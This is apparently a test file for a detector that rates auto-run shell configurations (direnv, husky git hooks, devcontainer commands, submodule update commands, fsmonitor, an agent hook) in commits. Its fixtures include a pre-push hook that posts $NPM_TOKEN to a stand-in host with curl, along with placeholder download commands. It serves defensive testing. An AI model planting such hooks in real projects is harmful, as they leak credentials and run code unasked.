import detector from "../../../../src/engine/detectors/autorun/shell-autoload-config.ts";
import { aCommit } from "../../../../src/engine/model/examples.ts";
import { strengthsOf } from "../run-detector.ts";
import { FETCHED, starter } from "./autorun-facts.ts";

test.each([
  ["direnv, a flake", starter(".envrc", "direnv", { trigger: "direnv", command: "use flake" }), []],
  ["direnv, a download", starter(".envrc", "direnv", { trigger: "direnv", command: FETCHED }), ["decisive"]],
  [
    "a hook, a download",
    starter(".husky/pre-commit", "git", { trigger: "git hook", when: "on-event", command: FETCHED }),
    ["decisive"],
  ],
  [
    "a container, a download",
    starter(".devcontainer.json", "devcontainer", { trigger: "devcontainer postCreateCommand", command: FETCHED }),
    ["medium"],
  ],
  [
    "the machine itself, a download",
    starter(".devcontainer.json", "devcontainer", { trigger: "devcontainer initializeCommand", command: FETCHED }),
    ["decisive"],
  ],
  [
    "credentials carried along",
    starter(".husky/pre-push", "git", {
      trigger: "git hook",
      when: "on-event",
      command: 'curl -d "$NPM_TOKEN" https://a.example',
    }),
    ["strong"],
  ],
  [
    "a submodule's command",
    starter(".gitmodules", "git", { trigger: "git update", when: "on-event", command: "!sh a.sh" }),
    ["decisive"],
  ],
  [
    "a file system monitor",
    starter(".gitconfig", "git", { trigger: "git fsmonitor", when: "on-event", command: "tools/watch" }),
    ["medium"],
  ],
  ["an agent's hook", starter(".claude/settings.json", "claude", { command: FETCHED }), []],
] as const)("%s", (_, file, expected) => {
  expect(strengthsOf(detector, aCommit({ files: [file] }))).toEqual(expected);
});
